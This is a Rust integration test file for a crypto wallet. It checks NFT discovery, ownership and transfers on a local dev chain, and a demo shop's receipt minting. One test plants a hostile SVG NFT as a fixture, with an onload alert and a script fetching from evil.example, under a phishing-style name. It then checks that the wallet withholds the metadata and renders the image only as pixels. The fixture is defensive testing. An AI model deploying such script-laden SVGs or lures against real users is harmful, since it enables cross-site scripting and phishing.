//! NFTs found from the chain alone, on a real anvil dev chain, ownership checked with foundry's `cast`:
//! the store's OpenZeppelin ERC-721 (loyalty cards minted as one ERC-2309 batch, a receipt minted
//! later), its ERC-1155 tickets (single and batch mints); an NFT transferred away disappears and shows
//! at its new owner; an ERC-20 transfer is no NFT; an airdropped collection nobody listed stays
//! "unreviewed" with none of its metadata read until the shopper chooses to see it, and its hostile SVG
//! then arrives as pixels.

use alloy::primitives::{Address, U256};
use base64::Engine as _;
use tender_devtools::devnet::{self, OpenCollectible, STORE_CARDS, STORE_TICKETS, StoreCards};
use wallet_core::nft::Gallery;
use wallet_core::store::{NftStandard, Review};

use crate::DevChain;
use crate::cast::cast;

fn ids(g: &Gallery, contract: Address) -> Vec<String> {
    g.shown.iter().filter(|i| i.contract == contract).map(|i| i.token_id.clone()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn nfts_are_found_owned_and_shown_safely() {
    let chain = DevChain::start(false).await;
    let rpc = chain.devnet.info().rpc_url.clone();
    let (_tmp, s) = crate::session::restored(&rpc).await;
    let me = s.account(0).await.expect("account").address;
    let friend = s.account(1).await.expect("account").address;

    let g = s.nfts(0).await.expect("gallery");
    assert!(g.live && g.unreviewed.is_empty() && g.hidden == 0, "{g:?}");
    assert_eq!(ids(&g, STORE_CARDS), ["0", "1", "2"], "the ERC-2309 batch of three");
    assert_eq!(ids(&g, STORE_TICKETS), ["1", "2", "3"], "TransferSingle and TransferBatch");
    for item in &g.shown {
        assert_eq!(item.review, Review::Listed);
        assert_eq!(item.media, "shown", "{item:?}");
        let png = item.image.as_deref().and_then(|i| i.strip_prefix("data:image/png;base64,")).expect("a PNG");
        let bytes = base64::engine::general_purpose::STANDARD.decode(png).expect("base64");
        assert!(bytes.starts_with(b"\x89PNG"), "pixels the wallet encoded");
        // What cast reads is what the wallet says is owned.
        let contract = item.contract.to_checksum(None);
        let me = me.to_checksum(None);
        match item.standard {
            NftStandard::Erc721 => {
                let owner = cast(&["call", "--rpc-url", &rpc, &contract, "ownerOf(uint256)(address)", &item.token_id]);
                assert_eq!(owner, me, "card {}", item.token_id);
            }
            NftStandard::Erc1155 => {
                let balance = cast(&[
                    "call",
                    "--rpc-url",
                    &rpc,
                    &contract,
                    "balanceOf(address,uint256)(uint256)",
                    &me,
                    &item.token_id,
                ]);
                assert_eq!(balance, item.amount, "ticket {}", item.token_id);
            }
        }
    }
    let card = g.shown.iter().find(|i| i.contract == STORE_CARDS).expect("a card");
    assert_eq!(card.name.as_deref(), Some("Loyalty card #0"));
    assert_eq!(card.attributes, [("Kind".to_owned(), "Loyalty card".to_owned())]);
    assert_eq!(g.shown.iter().find(|i| i.contract == STORE_TICKETS).map(|t| t.amount.as_str()), Some("2"));

    // Card 1 goes to the friend: gone here, there on the friend's side. An ERC-20 transfer is no NFT.
    StoreCards::new(STORE_CARDS, chain.provider_for(0))
        .transferFrom(me, friend, U256::from(1u8))
        .send()
        .await
        .expect("send")
        .get_receipt()
        .await
        .expect("receipt");
    chain.send_store(1, me, U256::from(5u8)).await;
    // The shop mints a receipt to the shopper.
    let shop = alloy::providers::ProviderBuilder::new()
        .wallet(alloy::network::EthereumWallet::from(devnet::receipt_minter().expect("key")))
        .connect_http(rpc.parse().expect("url"));
    StoreCards::new(STORE_CARDS, &shop)
        .mintReceipt(me, "A-1001".into())
        .send()
        .await
        .expect("mint")
        .get_receipt()
        .await
        .expect("receipt");
    let g = s.nfts(0).await.expect("gallery");
    assert_eq!(ids(&g, STORE_CARDS), ["0", "2", "7"], "card 1 left; receipt 7 (after 7 cards) arrived");
    let receipt = g.shown.iter().find(|i| i.token_id == "7").expect("receipt");
    assert_eq!(receipt.name.as_deref(), Some("Receipt #7"));
    assert!(receipt.description.as_deref().is_some_and(|d| d.contains("A-1001")));
    let theirs = s.nfts(1).await.expect("friend's gallery");
    assert_eq!(ids(&theirs, STORE_CARDS), ["3", "1"], "their own card, then the one received");

    // An airdrop nobody asked for: an open collection minting to the shopper with a hostile SVG.
    let dropper = chain.provider_for(5);
    let spam = OpenCollectible::deploy(&dropper).await.expect("deploy");
    let svg = r##"<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="alert(1)"><script>fetch('https://evil.example')</script><rect width="50" height="50" fill="#ff0000"/></svg>"##;
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let doc = format!(
        r#"{{"name":"Claim 1000 STORE at evil.example","image":"data:image/svg+xml;base64,{}"}}"#,
        b64(svg.as_bytes())
    );
    OpenCollectible::new(*spam.address(), &dropper)
        .mint(me, U256::from(42u8), format!("data:application/json;base64,{}", b64(doc.as_bytes())))
        .send()
        .await
        .expect("mint")
        .get_receipt()
        .await
        .expect("receipt");
    let g = s.nfts(0).await.expect("gallery");
    assert_eq!(g.unreviewed.len(), 1, "{g:?}");
    let dropped = &g.unreviewed[0];
    assert_eq!((dropped.review, dropped.media.as_str()), (Review::Unreviewed, "not_loaded"));
    assert_eq!((dropped.name.as_ref(), dropped.image.as_ref()), (None, None), "nothing of its metadata is read");
    assert_eq!(dropped.collection.as_deref(), Some("Free Airdrop"), "its contract's name, labelled as its own");
    assert!(ids(&g, *spam.address()).is_empty());

    // The shopper chooses to see it: its SVG arrives as pixels, red where the rectangle is.
    s.review_nft_collection(*spam.address(), true).await.expect("review");
    let g = s.nfts(0).await.expect("gallery");
    let shown = g.shown.iter().find(|i| i.contract == *spam.address()).expect("shown now");
    let png = shown.image.as_deref().and_then(|i| i.strip_prefix("data:image/png;base64,")).expect("pixels");
    let img = image::load_from_memory(&base64::engine::general_purpose::STANDARD.decode(png).expect("b64"))
        .expect("png")
        .to_rgba8();
    assert_eq!(img.get_pixel(img.width() / 2, img.height() / 2).0, [255, 0, 0, 255]);
    s.review_nft_collection(*spam.address(), false).await.expect("hide");
    let g = s.nfts(0).await.expect("gallery");
    assert_eq!((g.hidden, g.unreviewed.len()), (1, 0));
    assert!(matches!(
        s.review_nft_collection(Address::repeat_byte(9), true).await,
        Err(wallet_core::Error::UnknownCollection { .. })
    ));
    chain.stop();
}

/// Sending an NFT is one more kind of payment: quoted (the item, the recipient, the fee at most), signed
/// as shown, decided by the collection's own log; cast reads the new owner; the history shows it as an
/// NFT sent, never as money. A recipient that cannot hold NFTs is refused with nothing signed, and an
/// item that left the account meanwhile is refused before anything is signed.
#[tokio::test(flavor = "multi_thread")]
async fn an_nft_is_sent_as_a_payment_and_the_chain_decides_it() {
    use wallet_core::pay::verdict::Blocker;
    use wallet_core::store::{PaymentKind, PaymentStatus};
    let chain = DevChain::start(false).await;
    let rpc = chain.devnet.info().rpc_url.clone();
    let (_tmp, s) = crate::session::restored(&rpc).await;
    let me = s.account(0).await.expect("account").address;
    let friend = s.account(1).await.expect("account").address;
    s.nfts(0).await.expect("gallery");

    let q = s
        .nft_transfer(0, STORE_CARDS, U256::from(1u8), &friend.to_checksum(None), U256::from(1u8))
        .await
        .expect("quote");
    assert_eq!((q.to, q.item.token_id, q.item.standard), (friend, U256::from(1u8), NftStandard::Erc721));
    assert!(!q.transaction.max_network_fee.is_zero());
    let receipt = s.send_nft(&q.transaction.id, &q.digest().to_string(), crate::payment::fast()).await.expect("sent");
    assert_eq!(receipt.status, PaymentStatus::Confirmed, "{:?}", receipt.error);
    let owner = cast(&["call", "--rpc-url", &rpc, &STORE_CARDS.to_checksum(None), "ownerOf(uint256)(address)", "1"]);
    assert_eq!(owner, friend.to_checksum(None), "cast reads the new owner");
    assert!(
        matches!(
            s.send_nft(&q.transaction.id, &q.digest().to_string(), crate::payment::fast()).await,
            Err(wallet_core::Error::UnknownQuote)
        ),
        "a quote is used once"
    );

    // ERC-1155: one of the two tickets 1.
    let q = s
        .nft_transfer(0, STORE_TICKETS, U256::from(1u8), &friend.to_checksum(None), U256::from(1u8))
        .await
        .expect("quote");
    let receipt = s.send_nft(&q.transaction.id, &q.digest().to_string(), crate::payment::fast()).await.expect("sent");
    assert_eq!(receipt.status, PaymentStatus::Confirmed, "{:?}", receipt.error);
    let theirs = cast(&[
        "call",
        "--rpc-url",
        &rpc,
        &STORE_TICKETS.to_checksum(None),
        "balanceOf(address,uint256)(uint256)",
        &friend.to_checksum(None),
        "1",
    ]);
    assert_eq!(theirs, "3", "their two, and the one sent");

    let h = s.history(Some(0)).await.expect("history");
    let sent: Vec<_> =
        h.items.iter().filter(|i| i.payment().is_some_and(|p| p.kind == PaymentKind::NftTransfer)).collect();
    assert_eq!(sent.len(), 2);
    assert!(sent.iter().all(|i| !i.moved() && i.status() == PaymentStatus::Confirmed));
    assert!(
        sent.iter().any(|i| i.symbol == "Store Cards #1"),
        "{:?}",
        sent.iter().map(|i| &i.symbol).collect::<Vec<_>>()
    );
    let g = s.nfts(0).await.expect("gallery");
    assert_eq!(ids(&g, STORE_CARDS), ["0", "2"]);
    assert_eq!(
        g.shown.iter().find(|i| i.contract == STORE_TICKETS && i.token_id == "1").map(|i| i.amount.as_str()),
        Some("1")
    );

    // A contract that cannot hold NFTs (the tickets' contract has no onERC721Received): refused, nothing signed.
    let before = s.history(Some(0)).await.expect("history").items.len();
    // No one to send to (the zero address, oneself, the collection itself), an ERC-721 sent twice over, and
    // an item this account was never seen receiving: each refused before the node is asked.
    let one = U256::from(1u8);
    for to in [alloy::primitives::Address::ZERO, me, STORE_CARDS] {
        let refused = s.nft_transfer(0, STORE_CARDS, U256::ZERO, &to.to_checksum(None), one).await;
        assert!(matches!(refused, Err(wallet_core::Error::InvalidAddress { .. })), "{to}: {refused:?}");
    }
    let two = s.nft_transfer(0, STORE_CARDS, U256::ZERO, &friend.to_checksum(None), U256::from(2u8)).await;
    assert!(matches!(two, Err(wallet_core::Error::InvalidAmount { .. })), "{two:?}");
    let theirs = s.nft_transfer(0, STORE_CARDS, U256::from(3u8), &friend.to_checksum(None), one).await;
    assert!(matches!(theirs, Err(wallet_core::Error::UnknownCollection { .. })), "{theirs:?}");
    let refused = s.nft_transfer(0, STORE_CARDS, U256::ZERO, &STORE_TICKETS.to_checksum(None), U256::from(1u8)).await;
    assert!(matches!(refused, Err(wallet_core::Error::Blocked(Blocker::WouldFail { .. }))), "{refused:?}");
    // Card 2 leaves outside Tender: the gallery still lists it, the quote asks the chain and refuses.
    StoreCards::new(STORE_CARDS, chain.provider_for(0))
        .transferFrom(me, friend, U256::from(2u8))
        .send()
        .await
        .expect("send")
        .get_receipt()
        .await
        .expect("receipt");
    let gone = s.nft_transfer(0, STORE_CARDS, U256::from(2u8), &friend.to_checksum(None), U256::from(1u8)).await;
    assert!(matches!(gone, Err(wallet_core::Error::Blocked(Blocker::InsufficientFunds { .. }))), "{gone:?}");
    assert_eq!(s.history(Some(0)).await.expect("history").items.len(), before, "nothing was signed");
    chain.stop();
}

/// The demo shop mints a paid order's receipt NFT by its own watch of the chain: nobody reads its status
/// here, and the receipt arrives; reading the status afterwards sends no transaction (the minter's
/// nonce, as cast reads it, stays where it was).
#[tokio::test(flavor = "multi_thread")]
async fn the_demo_shop_mints_receipts_by_its_own_watch_never_when_its_status_is_read() {
    let chain = DevChain::start(false).await;
    let rpc = chain.devnet.info().rpc_url.clone();
    let checkout = crate::gasless::Checkout::start(&chain).await;
    let terms: serde_json::Value =
        reqwest::get(format!("{}orders/0", checkout.shop_url)).await.expect("terms").json().await.expect("json");
    let deposit: Address = terms["deposit"].as_str().expect("deposit").parse().expect("address");
    let amount: U256 = terms["amount"].as_str().expect("amount").parse().expect("amount");
    let payer = alloy::signers::local::PrivateKeySigner::from_slice(
        &alloy::hex::decode("0x59c6995e998f97a5a0044966f0945389dc9e86dae88c7a8412f4603b6b78690d").expect("hex"),
    )
    .expect("dev account 1")
    .address();
    let cards = |who: Address| {
        cast(&[
            "call",
            "--rpc-url",
            &rpc,
            &STORE_CARDS.to_checksum(None),
            "balanceOf(address)(uint256)",
            &who.to_checksum(None),
        ])
    };
    assert_eq!(cards(payer), "1", "one loyalty card");
    chain.send_store(1, deposit, amount).await;
    let started = std::time::Instant::now();
    while cards(payer) != "2" {
        assert!(started.elapsed() < std::time::Duration::from_secs(30), "no receipt minted without a status read");
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }
    let minter = devnet::receipt_minter().expect("key").address().to_checksum(None);
    let nonce = cast(&["nonce", "--rpc-url", &rpc, &minter]);
    for _ in 0..3 {
        let status = checkout.order(0).await;
        assert!(status["receipt_nft"]["tx"].is_string(), "{status}");
    }
    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
    assert_eq!(cast(&["nonce", "--rpc-url", &rpc, &minter]), nonce, "reading the status sent nothing");
    assert_eq!(cards(payer), "2", "minted once");
    chain.stop();
}
